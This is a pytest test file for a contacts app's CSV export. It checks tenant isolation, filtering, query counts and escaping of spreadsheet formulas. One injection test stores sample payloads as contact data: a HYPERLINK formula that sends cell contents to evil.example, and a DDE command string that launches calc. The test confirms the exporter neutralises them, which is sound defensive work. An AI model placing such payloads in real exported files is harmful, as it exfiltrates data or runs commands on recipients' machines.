"""Exporting contacts as CSV: the filtered contacts exactly, one query per chunk, nobody else's."""

from __future__ import annotations

import csv

import pytest

from contacts import exports, services
from contacts.selectors import ContactFilter

pytestmark = pytest.mark.django_db


def rows(lines) -> list[dict[str, str]]:
    return list(csv.DictReader("".join(lines).splitlines()))


@pytest.fixture
def audience(alice, bob):
    services.create_custom_field(owner=alice.user, name="Age", type="number")
    friends = services.create_list(owner=alice.user, name="Friends")
    services.create_contact(owner=alice.user, email="ann@example.com", custom={"Age": 30}, lists=[friends.public_id])
    services.create_contact(owner=alice.user, phone="+14155550123", tags=["hot"], email_status="unsubscribed")
    services.create_contact(owner=bob.user, email="zed@example.com", tags=["hot"])
    return friends


def test_the_export_holds_every_contact_of_the_tenant_with_custom_values_by_name(alice, audience):
    found = rows(exports.export_csv(owner=alice.user))
    assert sorted(r["email"] or r["phone"] for r in found) == ["+14155550123", "ann@example.com"]
    ann = next(r for r in found if r["email"])
    assert (ann["Age"], ann["lists"], ann["email_status"]) == ("30", "Friends", "subscribed")


def test_the_export_filtered_by_list_tag_or_segment_equals_those_contacts(alice, audience):
    by_list = rows(exports.export_csv(owner=alice.user, wanted=ContactFilter(list_id=audience.public_id)))
    by_tag = rows(exports.export_csv(owner=alice.user, wanted=ContactFilter(tag="hot")))
    segment = services.create_segment(
        owner=alice.user, name="Old", rules=[{"field": "custom.Age", "op": "greater_than", "value": 20}]
    )
    by_segment = rows(exports.export_csv(owner=alice.user, segment_id=segment.public_id))
    assert [r["email"] for r in by_list] == ["ann@example.com"] == [r["email"] for r in by_segment]
    assert [(r["phone"], r["tags"], r["email_status"]) for r in by_tag] == [("+14155550123", "hot", "unsubscribed")]


def test_another_tenants_segment_is_not_found(alice, bob, audience):
    segment = services.create_segment(owner=alice.user, name="Mine", rules=[])
    with pytest.raises(Exception, match="not found"):
        list(exports.export_csv(owner=bob.user, segment_id=segment.public_id))


def test_the_export_reads_one_query_per_chunk(alice, audience, monkeypatch, django_assert_num_queries):
    for n in range(5):
        services.create_contact(owner=alice.user, email=f"p{n}@example.com")
    monkeypatch.setattr(exports, "CHUNK", 2)
    with django_assert_num_queries(1 + 4):  # the custom fields, then 7 contacts in chunks of 2
        lines = list(exports.export_csv(owner=alice.user))
    assert len(lines) == 8


def test_texts_a_spreadsheet_would_run_are_quoted_and_import_back_unchanged(alice, bob):
    """CSV injection: a contact named `=HYPERLINK(…)` opens as text, and the file imports back as it was."""
    from contacts import imports
    from contacts.models import Contact

    names = {"first_name": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "last_name": "@SUM(A1:A9)",
             "company": "-2+3", "custom": {"Note": "+cmd|' /C calc'!A0"}}  # fmt: skip
    services.create_custom_field(owner=alice.user, name="Note", type="text")
    services.create_contact(owner=alice.user, email="ann@example.com", phone="+14155550123", tags=["=tag"], **names)
    exported = "".join(exports.export_csv(owner=alice.user))
    row = rows([exported])[0]
    assert (row["first_name"], row["last_name"], row["company"], row["Note"], row["tags"]) == (
        "'" + names["first_name"],
        "'@SUM(A1:A9)",
        "'-2+3",
        "'+cmd|' /C calc'!A0",
        "'=tag",
    )
    assert row["phone"] == "+14155550123"  # a number stays a number
    services.create_custom_field(owner=bob.user, name="Note", type="text")
    job = services.start_import(owner=bob.user, filename="export.csv", data=exported.encode(), enqueue=False)
    assert imports.run_import(job.pk).rows_created == 1
    again = Contact.objects.for_tenant(bob.user).get()
    assert (again.first_name, again.last_name, again.company) == (
        names["first_name"],
        names["last_name"],
        names["company"],
    )
    assert list(again.custom.values()) == [names["custom"]["Note"]]
